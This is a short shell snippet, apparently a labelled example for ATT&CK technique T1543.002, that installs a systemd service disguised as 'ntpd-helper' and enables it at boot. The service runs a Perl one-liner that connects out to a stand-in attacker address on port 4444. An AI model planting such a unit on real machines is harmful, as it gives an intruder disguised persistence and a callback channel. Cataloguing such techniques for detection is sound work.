# technique: T1543.002
# location: linux.systemd.service
# source: /etc/systemd/system/ntpd-helper.service
cat > /etc/systemd/system/ntpd-helper.service <<'UNIT'
[Service]
User=nobody
ExecStart=/usr/bin/perl -MIO::Socket -e 'IO::Socket::INET->new("203.0.113.9:4444")'
[Install]
WantedBy=default.target
UNIT
systemctl enable ntpd-helper
